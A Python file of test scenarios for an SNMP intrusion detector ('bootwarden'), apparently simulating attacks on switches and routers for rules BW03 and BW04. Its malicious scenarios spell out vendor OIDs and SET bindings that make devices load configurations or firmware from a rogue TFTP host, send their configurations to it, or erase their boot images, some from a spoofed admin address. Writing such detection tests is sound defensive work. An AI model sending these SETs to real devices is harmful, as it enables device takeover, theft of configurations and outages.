"""SNMP orders of the vendors, brands and tables that the first scenarios of BW03 to BW05 leave out."""

from __future__ import annotations

from ipaddress import IPv4Address

from bootwarden.scenarios.model import Expect, Notice, scenario
from bootwarden.scenarios.sids import Raised
from bootwarden.scenarios.sites import ADMIN, ATTACKER, BOOT_SERVER, HQ, ROGUE
from bootwarden.traffic import snmp
from bootwarden.traffic.wire import Wire

FORCE10 = "1.3.6.1.4.1.6027.3.5.1.1.1.1"
HP_DOWNLOAD = "1.3.6.1.4.1.11.2.14.11.1.3"
HP_INET = f"{HP_DOWNLOAD}.9.1"
SMALL_CISCO = "1.3.6.1.4.1.9.6.1.101.87.2.1"
OLD_H3C = "1.3.6.1.4.1.2011.10.2.4.1.2.4.1"
HP_FOUNDRY = "1.3.6.1.4.1.11.2.3.7.11.12.1.2"
FILE, RUNNING, STARTUP, TFTP = 1, 2, 3, 3
CREATE_AND_GO = 4


def to_inet(host: str) -> bytes:
    """An InetAddress."""
    return IPv4Address(host).packed


def loads(server: str) -> dict[str, list[snmp.Binding]]:
    """Devices that are told to load a configuration from a server, each in one SET."""
    where = IPv4Address(server)
    return {
        "10.0.1.31": snmp.row(FORCE10, 4711, {2: FILE, 3: TFTP, 4: "f10.cfg", 5: STARTUP, 8: where, 15: CREATE_AND_GO}),
        "10.0.1.32": snmp.row(
            HP_INET, 1, {2: 1, 3: to_inet(server), 4: "sw.cfg", 9: 2, 10: 1, 17: 1, 18: 2, 13: CREATE_AND_GO}
        ),
        "10.0.1.33": snmp.row(SMALL_CISCO, 1, {3: 3, 4: where, 6: "smb.txt", 7: 1, 8: 1, 12: 3, 17: CREATE_AND_GO}),
        "10.0.1.34": snmp.row(OLD_H3C, 7, {2: 4, 3: 2, 4: "old.cfg", 5: where, 9: CREATE_AND_GO}),
    }


def images(server: str) -> dict[str, list[snmp.Binding]]:
    """Devices that are told to load an image from a server."""
    where = IPv4Address(server)
    return {
        "10.0.1.31": snmp.row(
            FORCE10, 4711, {2: FILE, 3: TFTP, 4: "FTOS.bin", 5: FILE, 6: 1, 17: to_inet(server), 15: CREATE_AND_GO}
        ),
        "10.0.1.32": snmp.row(HP_INET, 1, {2: 1, 3: to_inet(server), 4: "KB.swi", 9: 2, 10: 2, 13: CREATE_AND_GO}),
        "10.0.1.35": [
            (f"{HP_FOUNDRY}.4.1.1.{column}.1", value)
            for column, value in {2: 3, 3: where, 4: "fgs.bin", 5: CREATE_AND_GO}.items()
        ],
    }


def orders(wire: Wire, manager: str, sets: dict[str, list[snmp.Binding]], *, answered: bool = True) -> None:
    """Each device gets its SET."""
    for device, bindings in sets.items():
        snmp.Manager(wire, manager, device).set(*bindings, answered=answered)


def told(name: str, server: str | None, files: dict[str, str]) -> tuple[Notice, ...]:
    """A notice for each device."""
    return tuple(Notice(name, device, server, file) for device, file in files.items())


def raised(manager: str, rules: dict[str, tuple[str, int]]) -> tuple[Raised, ...]:
    """What each device's SET raises."""
    return tuple((detection, number, manager, device) for device, (detection, number) in rules.items())


LOADING = {"10.0.1.31": ("BW03", 5), "10.0.1.32": ("BW03", 5), "10.0.1.33": ("BW03", 9), "10.0.1.34": ("BW03", 7)}
SENDING = {f"10.0.1.{n}": ("BW03", 4) for n in (31, 32, 33, 34)}
IMAGING = {"10.0.1.31": ("BW04", 3), "10.0.1.32": ("BW04", 3), "10.0.1.35": ("BW04", 2)}
ERASING = {
    "10.0.1.31": ("BW03", 3),
    "10.0.1.32": ("BW04", 0),
    "10.0.1.33": ("BW04", 1),
    "10.0.1.34": ("BW04", 4),
    "10.0.1.35": ("BW04", 3),
}
CONFIGS = {"10.0.1.31": "f10.cfg", "10.0.1.32": "sw.cfg", "10.0.1.33": "smb.txt", "10.0.1.34": "old.cfg"}
IMAGES = {"10.0.1.31": "FTOS.bin", "10.0.1.32": "KB.swi", "10.0.1.35": "fgs.bin"}


@scenario(
    "BW03",
    "malicious",
    raises=raised(ATTACKER, LOADING),
    site=HQ,
    with_site=Expect(told("SNMP_Config_Copy", ROGUE, CONFIGS)),
)
def bw03_more_brands(wire: Wire) -> None:
    """Force10, HPE, a small Cisco switch and an old 3Com router are each told to load a configuration."""
    orders(wire, ATTACKER, loads(ROGUE))


@scenario(
    "BW03",
    "malicious",
    raises=raised(ATTACKER, SENDING),
    site=HQ,
    with_site=Expect(
        (
            *told("SNMP_Config_Copy", ROGUE, {f"10.0.1.{n}": "stolen" for n in (31, 32, 33)}),
            Notice("SNMP_Config_Copy", "10.0.1.34"),
        )
    ),
)
def bw03_more_brands_send(wire: Wire) -> None:
    """A Force10 and two HPE switches are told to send their configurations, a third to serve its own by TFTP."""
    where = IPv4Address(ROGUE)
    f10 = {2: RUNNING, 5: FILE, 6: TFTP, 7: "stolen", 8: where, 15: CREATE_AND_GO}
    snmp.Manager(wire, ATTACKER, "10.0.1.31").set(*snmp.row(FORCE10, 2**31 - 1, f10))
    put = {2: 1, 3: to_inet(ROGUE), 4: "stolen", 9: 2, 17: 2, 18: 2, 13: CREATE_AND_GO}
    snmp.Manager(wire, ATTACKER, "10.0.1.32").set(*snmp.row(HP_INET, 1, put))
    manager = snmp.Manager(wire, ATTACKER, "10.0.1.33")
    for columns in ({13: 5}, {18: 3}, {17: 2}, {9: 2}, {2: 1}, {3: to_inet(ROGUE)}, {4: "stolen"}, {10: 1}, {13: 1}):
        manager.set(*snmp.row(HP_INET, 1, columns))
    snmp.Manager(wire, ATTACKER, "10.0.1.34").set((f"{HP_DOWNLOAD}.6.0", 1))


@scenario(
    "BW04",
    "malicious",
    raises=raised(ATTACKER, IMAGING),
    site=HQ,
    with_site=Expect(told("SNMP_Image_Copy", ROGUE, IMAGES)),
)
def bw04_more_brands(wire: Wire) -> None:
    """Force10 and HPE are told to load an image, and an HP switch made by Foundry to boot from a TFTP server."""
    orders(wire, ATTACKER, images(ROGUE))


@scenario(
    "BW03",
    "malicious",
    raises=raised(ADMIN, LOADING),
    raises_with_site=raised(
        ADMIN,
        {
            "10.0.1.31": ("BW03", 17),
            "10.0.1.32": ("BW03", 19),
            "10.0.1.33": ("BW03", 14),
            "10.0.1.34": ("BW03", 13),
        },
    ),
    site=HQ,
    with_site=Expect(told("SNMP_Config_Copy", ROGUE, CONFIGS)),
)
def bw03_spoofed_brands(wire: Wire) -> None:
    """The same from an admin's spoofed address: the server that the SETs name gives them away."""
    orders(wire, ADMIN, loads(ROGUE), answered=False)


HP_OLD = snmp.row(f"{HP_DOWNLOAD}.1.1", 1, {4: to_inet(ROGUE) + b"\x00\x45", 6: "KB_old.swi", 7: 2, 10: CREATE_AND_GO})


@scenario(
    "BW04",
    "malicious",
    raises=raised(
        ADMIN,
        {
            "10.0.1.31": ("BW04", 3),
            "10.0.1.32": ("BW04", 3),
            "10.0.1.35": ("BW04", 2),
            "10.0.1.36": ("BW04", 7),
        },
    ),
    raises_with_site=raised(
        ADMIN,
        {
            "10.0.1.31": ("BW04", 21),
            "10.0.1.32": ("BW04", 22),
            "10.0.1.35": ("BW04", 13),
            "10.0.1.36": ("BW04", 23),
        },
    ),
    site=HQ,
    with_site=Expect(told("SNMP_Image_Copy", ROGUE, IMAGES | {"10.0.1.36": "KB_old.swi"})),
)
def bw04_spoofed_brands(wire: Wire) -> None:
    """The same from an admin's spoofed address, and an HPE switch of old whose server comes with its port."""
    orders(wire, ADMIN, images(ROGUE) | {"10.0.1.36": HP_OLD}, answered=False)


@scenario(
    "BW04",
    "malicious",
    raises=raised(ATTACKER, ERASING),
    site=HQ,
    with_site=Expect(
        (
            Notice("SNMP_Config_Copy", "10.0.1.31"),
            Notice("SNMP_Image_Copy", "10.0.1.32"),
            Notice("SNMP_Image_Copy", "10.0.1.33"),
            Notice("SNMP_Image_Copy", "10.0.1.34", None, "flash:/s5700.cc"),
            Notice("SNMP_Image_Copy", "10.0.1.35"),
        )
    ),
)
def bw04_nothing_left_to_boot(wire: Wire) -> None:
    """What devices would boot from is erased, so that they look for it on the network; one gets another next image."""
    erasures: dict[str, list[snmp.Binding]] = {
        "10.0.1.31": [("1.3.6.1.4.1.9.2.1.54.0", 0)],
        "10.0.1.32": snmp.row("1.3.6.1.4.1.9.9.10.1.2.3.1", 9, {2: 1, 3: "flash:", 7: CREATE_AND_GO}),
        "10.0.1.33": [("1.3.6.1.4.1.9.2.10.6.0", 1)],
        "10.0.1.34": snmp.row("1.3.6.1.4.1.2011.6.9.1.2.1.1", 2, {2: 4, 8: "flash:/s5700.cc", 12: CREATE_AND_GO}),
        "10.0.1.35": [("1.3.6.1.4.1.2011.5.25.19.1.3.3.1.4.1", 2)],
    }
    orders(wire, ATTACKER, erasures)


@scenario("BW04", "benign", site=HQ, with_site=Expect())
def bw04_tables_read_and_other_sets(wire: Wire) -> None:
    """Monitoring walks all these tables, their values as in an attack; an admin saves, squeezes and names a port."""
    for number, (device, bindings) in enumerate((loads(ROGUE) | images(ROGUE) | {"10.0.1.36": HP_OLD}).items()):
        manager = snmp.Manager(wire, "10.0.9.20", device, "public", port=40000 + number)
        for name, value in bindings:
            manager.get((name, value))
            manager.get_next(name.rsplit(".", 1)[0], (name, value))
        manager.get_bulk(bindings[0][0].rsplit(".", 2)[0], *bindings)
    harmless: dict[str, list[snmp.Binding]] = {
        "10.0.1.31": snmp.row(FORCE10, 7, {2: RUNNING, 5: STARTUP, 15: CREATE_AND_GO}),
        "10.0.1.32": [(f"{HP_DOWNLOAD}.13.0", 1416)],
        "10.0.1.33": snmp.row("1.3.6.1.4.1.9.9.10.1.2.3.1", 9, {2: 5, 3: "flash:", 7: CREATE_AND_GO}),
        "10.0.1.34": [("1.3.6.1.4.1.9.2.1.54.0", 1)],
    }
    orders(wire, "10.0.9.20", harmless)


@scenario(
    "BW03",
    "benign",
    raises=raised(ADMIN, LOADING),
    raises_with_site=[],
    site=HQ,
    with_site=Expect(),
)
def bw03_more_brands_declared(wire: Wire) -> None:
    """An admin lets switches of these brands load their configurations from the declared server."""
    orders(wire, ADMIN, loads(BOOT_SERVER))
